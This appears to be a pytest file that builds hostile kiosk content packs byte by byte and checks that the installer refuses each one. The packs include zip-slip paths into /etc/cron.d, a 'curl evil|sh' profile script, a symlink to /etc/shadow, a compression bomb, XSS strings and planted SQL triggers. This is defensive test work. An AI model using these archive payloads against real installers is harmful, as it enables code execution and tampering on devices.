"""Hostile and broken packs: each is refused with its own one-line reason, and the installed
content stays byte-identical.

Every hostile pack is made the way an attacker or a broken USB copy would make it: by taking
a good, signed pack apart and writing a new ZIP byte by byte (so names, flags, modes, sizes
and compression methods can be anything the ZIP format can express). Where the point is a
later check, the changed manifest is re-signed with the kiosk's trusted key (a leaked key);
where the point is the signature, it is left unsigned, signed by a stranger or tampered with.

The kiosk under test has content version 2 installed; the hostile packs start from a good
version 3, except the downgrade and replay cases, which use genuine signed packs of
versions 1 and 2.
"""

from __future__ import annotations

import base64
import bz2
import functools
import hashlib
import json
import random
import re
import shutil
import sqlite3
import stat
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest

from content_sync.core.errors import InstallError, PackError
from content_sync.device.install import Installer
from content_sync.device.layout import DataDir
from content_sync.pack.build import build_pack
from content_sync.pack.manifest import PackLimits
from content_sync.pack.reader import verify_pack
from content_sync.pack.schema import CONTENT_SCHEMA_VERSION as SCHEMA
from content_sync.pack.signing import SigningKey
from content_sync.store.content_store import ContentStore
from tests.support import BUILT_AT, MINI_SOURCE, set_version, tree_digest

MANIFEST = "manifest.json"
SIGNATURES = "signatures.json"
CONTENT_DB = "content.db"
INSTALLED_VERSION = 2
VENUES = ["gansu-provincial-museum", "night-market", "zhongshan-iron-bridge"]
BRIDGE = "zhongshan-iron-bridge"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>"

# --- writing ZIP files byte by byte -------------------------------------------------------

STORED, DEFLATED, BZIP2 = 0, 8, 12
DOS_TIME, DOS_DATE = 0, (2020 - 1980) << 9 | 1 << 5 | 1
UNIX = 3


@dataclass
class Entry:
    """One ZIP member exactly as it will be written; ``None`` fields are computed from ``data``."""

    name: str | bytes
    data: bytes = b""
    method: int = STORED
    mode: int = stat.S_IFREG | 0o644
    flags: int = 0
    payload: bytes | None = None  # already-compressed bytes
    crc: int | None = None
    size: int | None = None  # uncompressed size claimed in both headers
    csize: int | None = None  # compressed size claimed in both headers
    extract_version: int | None = None

    def raw_name(self) -> tuple[bytes, int]:
        if isinstance(self.name, bytes):
            return self.name, self.flags
        return self.name.encode(), self.flags | (0 if self.name.isascii() else 0x800)

    def compressed(self) -> bytes:
        if self.payload is not None:
            return self.payload
        if self.method == DEFLATED:
            comp = zlib.compressobj(6, zlib.DEFLATED, -15)
            return comp.compress(self.data) + comp.flush()
        if self.method == BZIP2:
            return bz2.compress(self.data)
        return self.data


def write_zip(path: Path, entries: Sequence[Entry]) -> Path:
    body, central = bytearray(), bytearray()
    for e in entries:
        name, flags = e.raw_name()
        payload = e.compressed()
        crc = zlib.crc32(e.data) if e.crc is None else e.crc
        size = len(e.data) if e.size is None else e.size
        csize = len(payload) if e.csize is None else e.csize
        version = e.extract_version or (46 if e.method == BZIP2 else 20)
        offset = len(body)
        body += struct.pack(
            "<4s2B4HL2L2H", b"PK\x03\x04", version, 0, flags, e.method, DOS_TIME, DOS_DATE,
            crc, csize, size, len(name), 0,
        )  # fmt: skip
        body += name + payload
        central += struct.pack(
            "<4s4B4HL2L5H2L", b"PK\x01\x02", 20, UNIX, version, 0, flags, e.method, DOS_TIME, DOS_DATE,
            crc, csize, size, len(name), 0, 0, 0, 0, e.mode << 16, offset,
        )  # fmt: skip
        central += name
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), len(body), 0)
    path.write_bytes(bytes(body + central + end))
    return path


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def manifest_json(manifest: dict) -> bytes:
    return json.dumps(manifest, ensure_ascii=False, indent=1, sort_keys=True).encode()


def signatures_json(raw_manifest: bytes, key: SigningKey) -> bytes:
    sig = {"alg": "ed25519", "key_id": key.public.key_id, "sig": base64.b64encode(key.sign(raw_manifest)).decode()}
    return json.dumps({"signatures": [sig]}, indent=1).encode()


class Repack:
    """A good pack taken apart; change entries, manifest or database, then sign and write it again."""

    def __init__(self, pack: Path) -> None:
        with zipfile.ZipFile(pack) as zf:
            files = {info.filename: zf.read(info) for info in zf.infolist()}
        self.manifest: dict = json.loads(files.pop(MANIFEST))
        files.pop(SIGNATURES)
        self.entries = [Entry(name, data, DEFLATED if name == CONTENT_DB else STORED) for name, data in files.items()]
        self.tmp = Path(pack).parent

    @property
    def media_name(self) -> str:
        return next(e.name for e in self.entries if isinstance(e.name, str) and e.name.startswith("media/"))

    def entry(self, name: str) -> Entry:
        return next(e for e in self.entries if e.name == name)

    def data(self, name: str) -> bytes:
        return self.entry(name).data

    def list_in_manifest(self, name: str, data: bytes) -> None:
        self.manifest["files"][name] = {"sha256": sha256(data), "size": len(data)}

    def put(self, name: str, data: bytes, *, method: int | None = None, listed: bool = True) -> Entry:
        """Replace or add an entry; ``listed`` also lists it, with its real hash, in the manifest."""
        old = next((e for e in self.entries if e.name == name), None)
        new = Entry(name, data, method if method is not None else (old.method if old else STORED))
        if old:
            self.entries[self.entries.index(old)] = new
        else:
            self.entries.append(new)
        if listed:
            self.list_in_manifest(name, data)
        return new

    def edit_db(self, *steps: str | Callable[[sqlite3.Connection], object]) -> None:
        """Change content.db with plain SQL (bypassing the builder) and list the new bytes."""
        path = self._db_copy()
        conn = sqlite3.connect(path)
        try:
            for step in steps:
                if isinstance(step, str):
                    conn.executescript(step)
                else:
                    step(conn)
            conn.commit()
        finally:
            conn.close()
        self.put(CONTENT_DB, path.read_bytes())
        path.unlink()

    def query(self, sql: str, params: Sequence[object] = ()) -> list[tuple]:
        path = self._db_copy()
        conn = sqlite3.connect(path)
        try:
            return conn.execute(sql, params).fetchall()
        finally:
            conn.close()
            path.unlink()

    def _db_copy(self) -> Path:
        fd, name = tempfile.mkstemp(suffix=".db", dir=self.tmp)
        with open(fd, "wb") as fh:
            fh.write(self.data(CONTENT_DB))
        return Path(name)

    def write(
        self,
        out: Path,
        key: SigningKey | None,
        *,
        manifest: bytes | None = None,
        signatures: bytes | None = None,
        extra: Sequence[Entry] = (),
    ) -> Path:
        raw = manifest_json(self.manifest) if manifest is None else manifest
        if signatures is None and key is not None:
            signatures = signatures_json(raw, key)
        head = [Entry(MANIFEST, raw)]
        if signatures is not None:
            head.append(Entry(SIGNATURES, signatures))
        return write_zip(out, [*head, *self.entries, *extra])


@functools.cache
def deflated_zeros(size: int) -> tuple[bytes, int, str]:
    """``size`` zero bytes as a raw deflate stream, with their CRC-32 and SHA-256."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(1 << 20)
    digest, crc, parts = hashlib.sha256(), 0, []
    for _ in range(size // len(chunk)):
        parts.append(comp.compress(chunk))
        digest.update(chunk)
        crc = zlib.crc32(chunk, crc)
    parts.append(comp.flush())
    return b"".join(parts), crc, digest.hexdigest()


# --- the cases --------------------------------------------------------------------------


@dataclass(frozen=True)
class Ctx:
    tmp_path: Path
    good: Path  # genuine signed pack, version 3 (would install)
    older: Path  # genuine signed pack, version 1
    same: Path  # genuine signed pack, version 2 (the installed one)
    key: SigningKey  # trusted by the kiosk
    other: SigningKey  # not trusted

    def out(self, name: str) -> Path:
        return self.tmp_path / f"hostile-{name}.kpack"

    def repack(self) -> Repack:
        return Repack(self.good)


@dataclass(frozen=True)
class Case:
    id: str
    make: Callable[[Ctx], Path]
    expect: str  # regex; <TRUSTED> and <OTHER> stand for the key ids
    family: str  # cases in one family are told apart by the operator in the same words
    error: type[Exception] = PackError
    limits: PackLimits | None = None

    def pattern(self, ctx: Ctx) -> str:
        return self.expect.replace("<TRUSTED>", ctx.key.public.key_id).replace("<OTHER>", ctx.other.public.key_id)


CASES: list[Case] = []
MEDIA = r"media/[0-9a-f]{64}\.png"


def case(
    expect: str, *, family: str | None = None, error: type[Exception] = PackError, limits: PackLimits | None = None
) -> Callable[[Callable[[Ctx], Path]], Callable[[Ctx], Path]]:
    def register(fn: Callable[[Ctx], Path]) -> Callable[[Ctx], Path]:
        cid = fn.__name__.removeprefix("pack_")
        CASES.append(Case(cid, fn, expect, family or cid, error, limits))
        return fn

    return register


# The container: not a ZIP at all, or a ZIP this reader must not trust.

NOT_A_ZIP = r"^not a pack: the file is not a ZIP archive or it is truncated$"


@case(NOT_A_ZIP, family="not-a-zip")
def pack_random_bytes(ctx: Ctx) -> Path:
    path = ctx.out("random")
    path.write_bytes(random.Random(1234).randbytes(64 * 1024))
    return path


@case(NOT_A_ZIP, family="not-a-zip")
def pack_png_renamed(ctx: Ctx) -> Path:
    path = ctx.out("png")
    shutil.copyfile(MINI_SOURCE / "media" / "bridge.png", path)
    return path


@case(NOT_A_ZIP, family="not-a-zip")
def pack_truncated_half(ctx: Ctx) -> Path:
    data = ctx.good.read_bytes()
    path = ctx.out("truncated")
    path.write_bytes(data[: len(data) // 2])
    return path


@case(NOT_A_ZIP, family="not-a-zip")
def pack_empty_file(ctx: Ctx) -> Path:
    path = ctx.out("empty")
    path.write_bytes(b"")
    return path


@case(r"^refused: the pack contains 'content\.db' twice$")
def pack_duplicate_content_db(ctx: Ctx) -> Path:
    pack = ctx.repack()
    decoy = Entry(CONTENT_DB, b"SQLite format 3\x00" + bytes(4080))
    return pack.write(ctx.out("duplicate"), ctx.key, extra=[decoy])


@case(r"^refused: file name 'content\.db\\x00\.exe' in the pack is not a plain name$")
def pack_nul_in_name(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.entry(CONTENT_DB).name = b"content.db\x00.exe"  # zipfile reads this as 'content.db'
    return pack.write(ctx.out("nul"), ctx.key)


@case(rf"^refused: {MEDIA} in the pack is a symbolic link$")
def pack_symlink_media(ctx: Ctx) -> Path:
    pack = ctx.repack()
    target = b"../../../../etc/shadow"
    name = f"media/{sha256(target)}.png"
    link = pack.put(name, target)
    link.mode = stat.S_IFLNK | 0o777
    return pack.write(ctx.out("symlink"), ctx.key)


@case(r"^refused: content\.db in the pack is not a regular file$")
def pack_fifo_content_db(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.entry(CONTENT_DB).mode = stat.S_IFIFO | 0o644
    return pack.write(ctx.out("fifo"), ctx.key)


@case(r"^refused: content\.db in the pack is encrypted$")
def pack_encrypted_flag(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.entry(CONTENT_DB).flags |= 0x1
    return pack.write(ctx.out("encrypted"), ctx.key)


@case(r"^refused: content\.db uses an unsupported compression method$")
def pack_bzip2_content_db(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.entry(CONTENT_DB).method = BZIP2
    return pack.write(ctx.out("bzip2"), ctx.key)


@case(r"^refused: content\.db expands \d{3,} times \(a compression bomb\)$")
def pack_compression_bomb(ctx: Ctx) -> Path:
    size = 200 * 2**20
    payload, crc, digest = deflated_zeros(size)
    pack = ctx.repack()
    bomb = pack.put(CONTENT_DB, b"", method=DEFLATED, listed=False)
    bomb.payload, bomb.crc, bomb.size = payload, crc, size
    pack.manifest["files"][CONTENT_DB] = {"sha256": digest, "size": size}
    return pack.write(ctx.out("bomb"), ctx.key)


@case(rf"^refused: {MEDIA} is 3000000000 bytes, over the limit of 2147483648$")
def pack_oversized_media(ctx: Ctx) -> Path:
    """A 3 GB image (as the headers and the signed manifest claim) against the 2 GiB media limit."""
    pack = ctx.repack()
    name = f"media/{'ab' * 32}.png"
    huge = pack.put(name, b"\x89PNG", listed=False)
    huge.size = huge.csize = 3_000_000_000
    pack.manifest["files"][name] = {"sha256": "ab" * 32, "size": 3_000_000_000}
    return pack.write(ctx.out("oversized"), ctx.key)


@case(r"^refused: the pack unpacks to \d+ bytes, over the limit of 34359738368$")
def pack_total_too_large(ctx: Ctx) -> Path:
    """Eighteen 2 GB media files: each under the per-file limit, together over 32 GiB."""
    pack = ctx.repack()
    for n in range(18):
        digest = f"{n:02x}" * 32
        name = f"media/{digest}.mbtiles"
        entry = pack.put(name, b"tiles", listed=False)
        entry.size = entry.csize = 2_000_000_000
        pack.manifest["files"][name] = {"sha256": digest, "size": 2_000_000_000}
    return pack.write(ctx.out("total"), ctx.key)


@case(r"^refused: the pack has 44 files, more than 40$", limits=PackLimits(max_entries=40))
def pack_too_many_entries(ctx: Ctx) -> Path:
    pack = ctx.repack()
    for n in range(40):
        pack.put(f"media/{sha256(str(n).encode())}.png", str(n).encode())
    return pack.write(ctx.out("entries"), ctx.key)


@case(rf"^refused: {MEDIA} is 1037 bytes, over the limit of 1000$", limits=PackLimits(max_media_bytes=1000))
def pack_media_over_configured_limit(ctx: Ctx) -> Path:
    shutil.copyfile(ctx.good, ctx.out("media-limit"))
    return ctx.out("media-limit")


# Entry names: only manifest.json, signatures.json, content.db and media/<sha256>.<ext>.


@case(r"^refused: the pack contains a path that climbs out of its folder '\.\./\.\./\.\./etc/cron\.d/kiosk'$")
def pack_dotdot_entry(ctx: Ctx) -> Path:
    cron = Entry("../../../etc/cron.d/kiosk", b"* * * * * root sh\n")
    return ctx.repack().write(ctx.out("dotdot"), ctx.key, extra=[cron])


@case(r"^refused: file name '\.\.\\\\Windows\\\\evil\.dll' in the pack is not a plain name$")
def pack_backslash_dotdot_entry(ctx: Ctx) -> Path:
    return ctx.repack().write(ctx.out("backslash"), ctx.key, extra=[Entry("..\\Windows\\evil.dll", b"MZ")])


@case(r"^refused: the pack contains an absolute path '/etc/profile\.d/kiosk\.sh'$")
def pack_absolute_entry(ctx: Ctx) -> Path:
    return ctx.repack().write(ctx.out("absolute"), ctx.key, extra=[Entry("/etc/profile.d/kiosk.sh", b"curl evil|sh")])


@case(r"^refused: the pack contains an absolute path 'C:/kiosk/autorun\.inf'$")
def pack_drive_letter_entry(ctx: Ctx) -> Path:
    return ctx.repack().write(ctx.out("drive"), ctx.key, extra=[Entry("C:/kiosk/autorun.inf", b"[autorun]")])


@case(r"^refused: unexpected file 'media/readme\.html' in the pack$")
def pack_unexpected_name(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.put("media/readme.html", b"<script>alert(1)</script>")
    return pack.write(ctx.out("unexpected"), ctx.key)


@case(r"^media file 'media/0{64}\.png' is not named by its SHA-256$")
def pack_media_not_named_by_hash(ctx: Ctx) -> Path:
    pack = ctx.repack()
    old = pack.media_name
    data = pack.data(old)
    pack.entry(old).name = f"media/{'0' * 64}.png"
    pack.manifest["files"][f"media/{'0' * 64}.png"] = pack.manifest["files"].pop(old)
    assert pack.manifest["files"][f"media/{'0' * 64}.png"]["sha256"] == sha256(data)
    return pack.write(ctx.out("misnamed"), ctx.key)


# Entries against the signed manifest.


@case(r"^refused: content\.db is \d+ bytes but the manifest says \d+$")
def pack_size_mismatch(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.entry(CONTENT_DB).data += bytes(4096)  # a page more than the signed manifest lists
    return pack.write(ctx.out("size"), ctx.key)


@case(rf"^refused: {MEDIA} is listed in the manifest but missing from the pack$")
def pack_missing_media(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.entries.remove(pack.entry(pack.media_name))
    return pack.write(ctx.out("missing"), ctx.key)


@case(r"^refused: media/[0-9a-f]{64}\.webp is in the pack but not in its signed manifest$")
def pack_extra_media(ctx: Ctx) -> Path:
    smuggled = b"RIFF\x00\x00\x00\x00WEBP"
    return ctx.repack().write(ctx.out("extra"), ctx.key, extra=[Entry(f"media/{sha256(smuggled)}.webp", smuggled)])


@case(rf"^refused: {MEDIA} does not match its SHA-256 in the manifest \(tampered or damaged\)$")
def pack_tampered_media(ctx: Ctx) -> Path:
    pack = ctx.repack()
    media = pack.entry(pack.media_name)
    media.data = media.data[:-1] + bytes([media.data[-1] ^ 0xFF])
    return pack.write(ctx.out("media-byte"), ctx.key)


@case(r"^refused: content\.db does not match its SHA-256 in the manifest \(tampered or damaged\)$")
def pack_tampered_content_db(ctx: Ctx) -> Path:
    pack = ctx.repack()
    db = pack.entry(CONTENT_DB)
    assert b"Zhongshan Iron Bridge" in db.data
    db.data = db.data.replace(b"Zhongshan Iron Bridge", b"Zhongshan Iron Bridgf", 1)  # one byte, same size
    return pack.write(ctx.out("db-byte"), ctx.key)


@case(r"^refused: content\.db in the pack is damaged or truncated \(.+\)$")
def pack_corrupt_deflate_stream(ctx: Ctx) -> Path:
    """Sizes and hashes are right but the compressed bytes were damaged on the USB stick."""
    pack = ctx.repack()
    db = pack.entry(CONTENT_DB)
    stream = bytearray(db.compressed())
    for pos in range(len(stream) // 2, len(stream) // 2 + 64):
        stream[pos] ^= 0x55
    db.payload = bytes(stream)
    return pack.write(ctx.out("deflate"), ctx.key)


# Signatures.


@case(r"^refused: the pack is not signed$")
def pack_unsigned(ctx: Ctx) -> Path:
    return ctx.repack().write(ctx.out("unsigned"), None)


@case(r"^refused: the pack is signed by a key this kiosk does not trust \(key <OTHER>\)$")
def pack_untrusted_key(ctx: Ctx) -> Path:
    return ctx.repack().write(ctx.out("stranger"), ctx.other)


@case(r"^refused: the signature by key <TRUSTED> does not match the pack \(tampered manifest\)$")
def pack_manifest_tampered_after_signing(ctx: Ctx) -> Path:
    pack = ctx.repack()
    raw = manifest_json(pack.manifest)
    signatures = signatures_json(raw, ctx.key)
    pack.manifest["expires_at"] = "2099-01-01T00:00:00+00:00"
    return pack.write(ctx.out("tampered-manifest"), None, signatures=signatures)


@case(r"^the pack's signature file is malformed$")
def pack_signatures_not_json(ctx: Ctx) -> Path:
    return ctx.repack().write(ctx.out("sig-json"), None, signatures=b"-----BEGIN PGP SIGNATURE-----\n")


@case(r"^refused: signatures\.json is 100000 bytes, over the limit of 65536$")
def pack_signatures_too_large(ctx: Ctx) -> Path:
    pack = ctx.repack()
    raw = manifest_json(pack.manifest)
    signatures = signatures_json(raw, ctx.key)
    signatures = signatures[:-1] + b" " * (100_000 - len(signatures)) + b"}"
    return pack.write(ctx.out("sig-big"), None, manifest=raw, signatures=signatures)


# The manifest itself.


@case(r"^the manifest is not valid JSON$")
def pack_manifest_not_json(ctx: Ctx) -> Path:
    return ctx.repack().write(ctx.out("manifest-json"), ctx.key, manifest=b"format: kiosk-pack\nfiles: {}\n")


@case(r"^not a kiosk content pack \(manifest format is not 'kiosk-pack'\)$")
def pack_wrong_format(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.manifest["format"] = "kiosk-pack-beta"
    return pack.write(ctx.out("format"), ctx.key)


@case(r"^pack format version 2 is not supported \(this kiosk reads 1\)$")
def pack_newer_format_version(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.manifest["format_version"] = 2
    return pack.write(ctx.out("format-version"), ctx.key)


@case(rf"^pack content schema {SCHEMA + 1} needs newer kiosk software \(this kiosk reads {SCHEMA}\)$")
def pack_newer_schema_version(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.manifest["schema_version"] = SCHEMA + 1
    return pack.write(ctx.out("schema-version"), ctx.key)


@case(
    rf"^pack content schema {SCHEMA - 1} was made for older kiosk software \(this kiosk reads {SCHEMA}\): "
    r"build it again with current tools$"
)
def pack_older_schema_version(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.manifest["schema_version"] = SCHEMA - 1
    return pack.write(ctx.out("schema-version-old"), ctx.key)


@case(r"^the manifest has no valid content_version$")
def pack_content_version_string(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.manifest["content_version"] = "3"
    return pack.write(ctx.out("version-string"), ctx.key)


@case(r"^the manifest's dates have no time zone$")
def pack_naive_dates(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.manifest["created_at"] = "2026-01-01T00:00:00"
    return pack.write(ctx.out("naive"), ctx.key)


@case(r"^the manifest lists no content database$")
def pack_manifest_without_content_db(ctx: Ctx) -> Path:
    pack = ctx.repack()
    del pack.manifest["files"][CONTENT_DB]
    pack.entries.remove(pack.entry(CONTENT_DB))
    return pack.write(ctx.out("no-db"), ctx.key)


@case(r"^manifest entry for 'content\.db' has no valid sha256 and size$")
def pack_manifest_bad_hash(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.manifest["files"][CONTENT_DB]["sha256"] = "sha256:" + pack.manifest["files"][CONTENT_DB]["sha256"]
    return pack.write(ctx.out("bad-hash"), ctx.key)


# What the kiosk will accept: its channel, unexpired, newer than what it has.


@case(r"^refused: the pack is for channel 'beta' but this kiosk follows 'stable'$")
def pack_wrong_channel(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.manifest["channel"] = "beta"
    return pack.write(ctx.out("channel"), ctx.key)


@case(r"^refused: the pack expired on 2020-01-01 00:00 UTC$")
def pack_expired(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.manifest["created_at"] = "2019-01-01T00:00:00+00:00"
    pack.manifest["expires_at"] = "2020-01-01T00:00:00+00:00"
    return pack.write(ctx.out("expired"), ctx.key)


@case(r"^refused: the pack holds content version 1, older than the installed version 2$")
def pack_older_version(ctx: Ctx) -> Path:
    """A genuine, correctly signed old pack: a downgrade (replay) attack."""
    return Path(shutil.copyfile(ctx.older, ctx.out("older")))


@case(r"^content version 2 is already installed \(use --reinstall to repair it\)$")
def pack_same_version(ctx: Ctx) -> Path:
    return Path(shutil.copyfile(ctx.same, ctx.out("same")))


# The database: signed by a leaked key, so only the installer's vetting stands in the way.


@case(r"^refused: content\.db is not a SQLite database$")
def pack_content_db_not_sqlite(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.put(CONTENT_DB, random.Random(99).randbytes(64 * 1024))
    return pack.write(ctx.out("db-random"), ctx.key)


@case(r"^refused: content\.db is damaged \(SQLite integrity check failed\)$")
def pack_content_db_damaged_pages(ctx: Ctx) -> Path:
    """A real SQLite header over scrambled pages: the structural check catches it."""
    pack = ctx.repack()
    db = bytearray(pack.data(CONTENT_DB))
    page = int.from_bytes(db[16:18], "big")
    scrambled = random.Random(7).randbytes(len(db) - 2 * page)
    db[2 * page :] = scrambled
    pack.put(CONTENT_DB, bytes(db))
    return pack.write(ctx.out("db-damaged"), ctx.key)


@case(r"^refused: content\.db's schema version does not match the manifest$")
def pack_db_user_version(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.edit_db("PRAGMA user_version = 7")
    return pack.write(ctx.out("user-version"), ctx.key)


UNEXPECTED_SCHEMA = r"^refused: content\.db has tables, triggers or views this kiosk does not expect$"


@case(UNEXPECTED_SCHEMA, family="schema")
def pack_db_extra_table(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.edit_db("CREATE TABLE payload (blob BLOB); INSERT INTO payload VALUES (randomblob(100))")
    return pack.write(ctx.out("extra-table"), ctx.key)


@case(UNEXPECTED_SCHEMA, family="schema")
def pack_db_trigger(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.edit_db(
        "CREATE TRIGGER keep_markup AFTER UPDATE ON venues BEGIN "
        'UPDATE venues SET summary = \'{"en": "<script>alert(1)</script>"}\' WHERE id = NEW.id; END'
    )
    return pack.write(ctx.out("trigger"), ctx.key)


@case(UNEXPECTED_SCHEMA, family="schema")
def pack_db_view_named_like_table(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.edit_db(
        "ALTER TABLE notices RENAME TO notices_old",
        "CREATE VIEW notices AS SELECT id, title, body, severity, starts_at, ends_at FROM notices_old",
    )
    return pack.write(ctx.out("view"), ctx.key)


@case(r"^refused: content\.db refers to venues, themes or media that it does not contain$")
def pack_db_dangling_reference(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.edit_db(f"INSERT INTO venue_themes (venue_id, theme_id) VALUES ('{BRIDGE}', 'no-such-theme')")
    return pack.write(ctx.out("fk"), ctx.key)


@case(r"^refused: content\.db refers to media 'media/f{64}\.jpg' that the pack does not carry$")
def pack_db_media_not_in_pack(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.edit_db(f"INSERT INTO media VALUES ('{'f' * 64}', 'media/{'f' * 64}.jpg', 'image/jpeg', 100, 10, 10)")
    return pack.write(ctx.out("db-media"), ctx.key)


@case(r"^refused: content\.db belongs to a different pack than its manifest$")
def pack_db_from_other_version(ctx: Ctx) -> Path:
    """The version 2 database spliced under a version 3 manifest."""
    pack = ctx.repack()
    pack.put(CONTENT_DB, Repack(ctx.same).data(CONTENT_DB))
    return pack.write(ctx.out("splice"), ctx.key)


@case(r"^refused: themes row 'yellow-river' field 'color': not a colour like #1F6FB2: ")
def pack_db_markup_in_plain_column(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.edit_db("UPDATE themes SET color = '#fff\"><script>alert(1)</script>' WHERE id = 'yellow-river'")
    return pack.write(ctx.out("color"), ctx.key)


@case(rf"^refused: venues row '{BRIDGE}' field 'name': not multilingual text")
def pack_db_i18n_array(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.edit_db(f"""UPDATE venues SET name = '["<b>Bridge</b>"]' WHERE id = '{BRIDGE}'""")
    return pack.write(ctx.out("i18n-array"), ctx.key)


@case(r"^refused: venues row 'night-market' field 'summary': not multilingual text")
def pack_db_i18n_not_json(ctx: Ctx) -> Path:
    pack = ctx.repack()
    pack.edit_db("UPDATE venues SET summary = 'en: night market' WHERE id = 'night-market'")
    return pack.write(ctx.out("i18n-json"), ctx.key)


CASE_IDS = [c.id for c in CASES]
FAMILIES = {c.family for c in CASES}


# --- fixtures -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def good_packs(tmp_path_factory: pytest.TempPathFactory, signing_key: SigningKey) -> dict[int, Path]:
    """Genuine packs of versions 1, 2 and 3 built from the mini source (built once: ~0.4 s each)."""
    root = tmp_path_factory.mktemp("good-packs")
    source = root / "mini-src"
    shutil.copytree(MINI_SOURCE, source)
    packs = {}
    for version in (1, 2, 3):
        set_version(source, version)
        packs[version] = root / f"good-v{version}.kpack"
        build_pack(source, packs[version], keys=[signing_key], now=BUILT_AT)
    return packs


@pytest.fixture
def ctx(tmp_path: Path, good_packs: dict[int, Path], signing_key: SigningKey, other_key: SigningKey) -> Ctx:
    work = tmp_path / "packs"
    work.mkdir()
    copies = {v: Path(shutil.copyfile(p, work / p.name)) for v, p in good_packs.items()}
    return Ctx(work, copies[3], copies[1], copies[2], signing_key, other_key)


@pytest.fixture
def installed(installer: Installer, data_dir: DataDir, ctx: Ctx) -> dict[str, str]:
    """Content version 2 installed; returns the digest of the whole data directory."""
    result = installer.install(ctx.same)
    assert result.content_version == INSTALLED_VERSION
    return tree_digest(data_dir.root)


def installer_for(case_: Case, installer: Installer) -> Installer:
    if case_.limits is None:
        return installer
    return Installer(
        installer.data, installer.trusted_keys, installer.channel, limits=case_.limits, clock=installer.clock
    )


def refusal(case_: Case, ctx: Ctx, installer: Installer) -> str:
    """Install the case's pack; return the refusal message after checking its type and form."""
    path = case_.make(ctx)
    with pytest.raises((PackError, InstallError)) as info:
        installer_for(case_, installer).install(path)
    assert type(info.value) is case_.error, f"{case_.id}: {type(info.value).__name__}: {info.value}"
    message = str(info.value)
    assert re.search(case_.pattern(ctx), message), f"{case_.id}: unexpected message {message!r}"
    assert "\n" not in message and "\r" not in message, f"{case_.id}: message is not one line: {message!r}"
    assert "Traceback" not in message and 'File "' not in message, message
    assert len(message) < 300, message
    return message


def assert_untouched(data_dir: DataDir, before: dict[str, str]) -> None:
    assert tree_digest(data_dir.root) == before
    assert not list(data_dir.content.glob(".staging-*"))
    with ContentStore.open(data_dir) as store:
        assert store.content_version == INSTALLED_VERSION
        assert store.meta()["content_version"] == str(INSTALLED_VERSION)
        assert sorted(v.id for v in store.venues()) == VENUES
        assert store.check_media() == []


# --- tests --------------------------------------------------------------------------------


def test_there_are_enough_distinct_cases() -> None:
    assert len(CASES) >= 25
    assert len(set(CASE_IDS)) == len(CASES)
    assert len(FAMILIES) >= 20


@pytest.mark.parametrize("case_", CASES, ids=CASE_IDS)
def test_hostile_pack_is_refused_and_changes_nothing(
    case_: Case, ctx: Ctx, installer: Installer, data_dir: DataDir, installed: dict[str, str]
) -> None:
    refusal(case_, ctx, installer)
    assert_untouched(data_dir, installed)


def test_every_case_has_its_own_message(
    ctx: Ctx, installer: Installer, data_dir: DataDir, installed: dict[str, str]
) -> None:
    """All cases against one kiosk, one after the other: one message per kind of fault."""
    messages = {c.id: refusal(c, ctx, installer) for c in CASES}
    assert_untouched(data_dir, installed)
    by_family: dict[str, set[str]] = {}
    for c in CASES:
        by_family.setdefault(c.family, set()).add(messages[c.id])
    # Cases in one family (e.g. "not a ZIP": random bytes, a PNG, half a pack, an empty file)
    # share their message; every other pair of cases is told apart.
    assert all(len(m) == 1 for m in by_family.values()), by_family
    assert len(set(messages.values())) == len(FAMILIES)
    assert len(set(messages.values())) >= 20


@pytest.mark.parametrize(
    "case_id",
    ["unsigned", "untrusted_key", "manifest_tampered_after_signing", "tampered_media", "symlink_media",
     "compression_bomb", "dotdot_entry", "manifest_not_json", "truncated_half"],
)  # fmt: skip
def test_verify_pack_gives_the_same_refusal(
    case_id: str, ctx: Ctx, installer: Installer, data_dir: DataDir, installed: dict[str, str]
) -> None:
    case_ = next(c for c in CASES if c.id == case_id)
    path = case_.make(ctx)
    with pytest.raises(PackError) as verified:
        verify_pack(path, [ctx.key.public])
    assert re.search(case_.pattern(ctx), str(verified.value)), str(verified.value)
    with pytest.raises(PackError) as install:
        installer.install(path)
    assert str(install.value) == str(verified.value)
    assert_untouched(data_dir, installed)


def test_verify_pack_accepts_the_good_pack(ctx: Ctx) -> None:
    manifest, key = verify_pack(ctx.good, [ctx.key.public])
    assert manifest.content_version == 3
    assert key.key_id == ctx.key.public.key_id


@pytest.mark.parametrize(
    "encode",
    [
        pytest.param(lambda text: json.dumps(text, ensure_ascii=False), id="raw"),
        pytest.param(lambda text: json.dumps(text).replace("<", "\\u003c").replace(">", "\\u003e"), id="json-escaped"),
        pytest.param(lambda text: json.dumps(text).replace("<", "&lt;").replace(">", "&gt;"), id="entities"),
    ],
)
def test_markup_inserted_into_the_database_is_sanitised_at_install(
